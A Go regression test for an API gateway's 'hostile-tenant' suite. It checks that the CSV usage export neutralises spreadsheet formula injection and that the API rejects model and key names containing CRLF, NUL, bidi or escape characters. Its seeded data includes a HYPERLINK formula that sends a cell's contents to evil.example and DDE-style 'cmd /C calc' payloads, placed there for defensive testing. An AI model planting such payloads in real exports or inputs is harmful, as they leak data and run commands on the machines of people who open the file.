package caddymodule

// The hostile-tenant suite: attacks one tenant could make on the gateway, its operator or
// other tenants, each through a real Caddy (or the real binary), each asserting the safe
// outcome so a regression fails CI. Other lanes add their own TestHostile… tests beside
// their code.

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/badtheorylabs/btl-runtime/ledger"
)

// hostileDo sends one request with key and returns status, headers and body.
func hostileDo(t *testing.T, method, url, key, body string, hdr ...string) (int, http.Header, []byte) {
	t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req, err := http.NewRequest(method, url, rd)
	if err != nil {
		t.Fatal(err)
	}
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, raw
}

// TestHostileCSVFormulaInjection: identifiers a tenant controls reach the finance export.
// Cells that a spreadsheet would run as formulas are neutralised; negative amounts in numeric
// columns stay numbers; identifiers with line breaks or control characters are refused where
// they enter (model names, key names).
func TestHostileCSVFormulaInjection(t *testing.T) {
	tl := newTestLedger(t, 10*ledger.Credit)
	now := time.Now().UTC().Truncate(time.Second)
	evil := ledger.Row{
		RequestID: "req_evil_1", Time: now.Add(-time.Minute), WorkspaceID: tl.workspace, KeyID: "-2+3", NodeID: "seed",
		RequestedModel: `=HYPERLINK("http://evil.example/?"&A1,"open")`, Provider: "+cmd|' /C calc'!A0",
		UpstreamModel: "@SUM(1+1)*cmd|' /C calc'!A0", CacheOutcome: "\t=1", ErrorCode: "\r=2",
		CostMicros: 50, BaselineMicros: 40, Status: 200, Attempts: 1,
	}
	func() {
		store, err := ledger.OpenSQLite(context.Background(), tl.db)
		if err != nil {
			t.Fatal(err)
		}
		defer store.Close()
		if err := store.InsertRows(context.Background(), "seed", []ledger.Row{evil}); err != nil {
			t.Fatal(err)
		}
	}()
	base := startGateway(t, tl.withStorage(`btl {
		provider sim simulated {
			models gpt-4o-mini
		}
	}`), fullChain)

	q := url.Values{"from": {now.Add(-time.Hour).Format(time.RFC3339)}, "to": {now.Add(time.Hour).Format(time.RFC3339)}, "format": {"csv"}}
	status, _, raw := hostileDo(t, http.MethodGet, base+"/v1/usage/export?"+q.Encode(), tl.ownerKey, "")
	if status != http.StatusOK {
		t.Fatalf("export: %d %s", status, raw)
	}
	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("export: %d records, %v\n%s", len(recs), err, raw)
	}
	col := map[string]int{}
	for i, name := range recs[0] {
		col[name] = i
	}
	row := recs[1]
	for _, name := range []string{"key_id", "requested_model", "provider", "upstream_model", "cache", "error_code"} {
		v := row[col[name]]
		if v == "" || strings.ContainsRune("=+-@\t\r", rune(v[0])) {
			t.Errorf("%s cell %q would be run as a formula", name, v)
		}
	}
	if got, want := row[col["requested_model"]], "'"+evil.RequestedModel; got != want {
		t.Errorf("requested_model = %q, want %q (the original, neutralised)", got, want)
	}
	if got, want := row[col["saved_usd"]], (evil.BaselineMicros - evil.CostMicros).String(); got != want || !strings.HasPrefix(got, "-") {
		t.Errorf("saved_usd = %q, want the negative number %q", got, want)
	}

	// Identifiers with control characters are refused where they enter.
	for name, body := range map[string]string{
		"model with CRLF":   `{"model":"gpt-4o-mini\r\nX-Evil: 1","messages":[{"role":"user","content":"hi"}]}`,
		"model with NUL":    `{"model":"gpt-4o-mini\u0000","messages":[{"role":"user","content":"hi"}]}`,
		"model too long":    `{"model":"` + strings.Repeat("m", 300) + `","messages":[{"role":"user","content":"hi"}]}`,
		"model with bidi":   `{"model":"gpt\u202e-4o","messages":[{"role":"user","content":"hi"}]}`,
		"model with escape": `{"model":"\u001b[31mred","messages":[{"role":"user","content":"hi"}]}`,
	} {
		status, _, raw := hostileDo(t, http.MethodPost, base+"/v1/chat/completions", tl.ownerKey, body)
		if status != http.StatusBadRequest || !bytes.Contains(raw, []byte(`"param":"model"`)) {
			t.Errorf("%s: %d %s, want 400 on model", name, status, raw)
		}
	}
	for name, body := range map[string]string{
		"key name with CRLF": `{"name":"ci\r\n=cmd","scopes":["inference"]}`,
		"key name with tab":  `{"name":"ci\tkey","scopes":["inference"]}`,
	} {
		status, _, raw := hostileDo(t, http.MethodPost, base+"/v1/api-keys", tl.ownerKey, body)
		if status != http.StatusBadRequest || !bytes.Contains(raw, []byte(`"param":"name"`)) {
			t.Errorf("%s: %d %s, want 400 on name", name, status, raw)
		}
	}
}
